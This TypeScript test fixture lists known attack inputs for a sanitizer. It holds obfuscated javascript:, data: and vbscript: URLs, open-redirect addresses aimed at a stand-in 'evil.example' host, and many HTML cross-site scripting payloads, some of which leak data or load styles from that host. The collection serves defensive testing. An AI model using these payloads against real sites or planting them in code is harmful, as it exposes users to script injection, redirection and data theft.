// What attackers write. Known ones; the tests generate more.

/** Addresses that were used, or could be, to run script or to lead somewhere else than they say. */
export const addresses: readonly string[] = [
  'javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', '\njavascript:alert(1)',
  'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)', 'java\u0000script:alert(1)', '\u0000javascript:alert(1)', '\u0001javascript:alert(1)',
  '\u0008javascript:alert(1)', '\u001fjavascript:alert(1)', '\u00a0javascript:alert(1)', '\ufeffjavascript:alert(1)', '\u200bjavascript:alert(1)', '\u200ejavascript:alert(1)',
  '\u202ejavascript:alert(1)', '\u2028javascript:alert(1)', '\u3000javascript:alert(1)', 'javascript\u200b:alert(1)', 'javascript:', 'javascript:void(0)', 'javascript://example.com/%0aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', '&#106;avascript:alert(1)', 'javascript%3aalert(1)',
  'javascript:alert`1`', 'javascript:\\u0061lert(1)', 'javascript:"<script>alert(1)</script>"', 'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'jar:javascript:alert(1)!/',
  'data:text/html,<script>alert(1)</script>', 'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', 'data:application/xhtml+xml,x', 'dat\ta:text/html,x', 'data:,x',
  'vbscript:msgbox(1)', 'VBSCRIPT:msgbox(1)', 'vb\nscript:msgbox(1)', 'livescript:alert(1)', 'mocha:alert(1)', 'behavior:url(x)',
  'blob:https://example.com/6f1b', 'filesystem:https://example.com/x', 'file:///etc/passwd', 'about:blank', 'about:srcdoc', 'chrome://settings', 'ws://example.com', 'ftp://example.com/x', 'intent://x#Intent;end', 'ms-word:ofe|u|x',
  '//evil.example', '///evil.example', '////evil.example', '/\\evil.example', '\\\\evil.example', '\\/evil.example', '/\t/evil.example', '/\n/evil.example', '/\u0000/evil.example', ' //evil.example',
  '/.//evil.example', '/..//evil.example', '/a/..//evil.example', '/././/evil.example', '/%2e//evil.example', '/%2E%2e//evil.example',
  'https:evil.example', 'https:/evil.example', 'https:\\\\evil.example', 'https:///evil.example', 'https://\tevil.example', 'https://evil.example\\@good.example', 'https:', 'https://', 'http:evil.example',
  'https://good.example@evil.example', 'https://good.example:x@evil.example', 'https://:x@evil.example', 'https://good.example%40evil.example:x@evil.example',
  'http://plain.example', 'HTTP://plain.example', '', ' ', 'nonsense', 'www.evil.example', 'evil.example/path', './x', '../x', '@evil.example', ':', '://evil.example', '%6a%61vascript:alert(1)',
]

/** Pieces of html that run `pwned()` wherever they are let through. */
export const markup: readonly string[] = [
  '<script>pwned()</script>', '<SCRIPT SRC=data:text/javascript,pwned()></SCRIPT>', '<scr<script>ipt>pwned()</script>', '<script/xss>pwned()</script>', '<<script>pwned()//<</script>',
  '<img src=x onerror=pwned()>', '<img src=x onerror="pwned()"//', '<img """><script>pwned()</script>">', '<img src="/favicon.svg" srcset="x" onload=pwned()>', '<image src=x onerror=pwned()>', '<img/src/onerror=pwned()>',
  '<svg onload=pwned()>', '<svg><script>pwned()</script></svg>', '<svg><animate onbegin=pwned() attributeName=x dur=1s>', '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>', '<svg><style><img src=x onerror=pwned()></style></svg>', '<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">', '<math><mi//xlink:href="javascript:pwned()">x', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<iframe src="javascript:parent.pwned()"></iframe>', '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>', '<object data="javascript:pwned()"></object>', '<embed src="javascript:pwned()">', '<frameset onload=pwned()>',
  '<a href="javascript:pwned()">x</a>', '<a href="jav&#x09;ascript:pwned()">x</a>', '<a href="&#14;javascript:pwned()">x</a>', '<a href="data:text/html,<script>pwned()</script>">x</a>', '<a href=" javascript:pwned()">x</a>', '<a href="//evil.example">x</a>', '<a href="https://good.example@evil.example">x</a>', '<a target="_blank" rel="opener" ping="https://evil.example" href="/x">x</a>',
  '<form action="javascript:pwned()"><button>x</button></form>', '<button formaction="javascript:pwned()" form=x>x</button>', '<input autofocus onfocus=pwned()>', '<isindex action="javascript:pwned()">', '<select autofocus onfocus=pwned()>', '<textarea autofocus onfocus=pwned()>', '<keygen autofocus onfocus=pwned()>',
  '<video src=x onerror=pwned()></video>', '<video><source onerror=pwned()></video>', '<audio src=x onerror=pwned()>', '<details open ontoggle=pwned()>x</details>', '<marquee onstart=pwned()>x</marquee>', '<body onload=pwned()>', '<div onpointerenter=pwned() style="position:fixed;inset:0">x</div>', '<p style="background:url(javascript:pwned())">x</p>', '<p style="animation:x" onanimationstart=pwned()>x</p>',
  '<style>@import "javascript:pwned()";</style>', '<style>*{background:url("https://evil.example/leak")}</style>', '<link rel=stylesheet href="https://evil.example/x.css">', '<link rel=import href="data:text/html,<script>pwned()</script>">', '<meta http-equiv=refresh content="0;url=javascript:pwned()">', '<base href="https://evil.example/">',
  '<img name=getElementById><img id=cookie>', '<a id=defaultView href=x>x</a>', '<form id=x><input name=attributes></form>', '<p id="__proto__" class="brand">x</p>', '<template><script>pwned()</script></template>', '<noscript><p title="</noscript><img src=x onerror=pwned()>">', '<xmp><p title="</xmp><img src=x onerror=pwned()>">', '<textarea></textarea><img src=x onerror=pwned()>', '<title></title><img src=x onerror=pwned()>', '<!--><img src=x onerror=pwned()>-->', '<![CDATA[<img src=x onerror=pwned()>]]>', '<?xml version="1.0"?><img src=x onerror=pwned()>', '<x-pwned onclick=pwned() contenteditable>x</x-pwned>', '<p is="x-pwned" slot="x">x</p>',
]
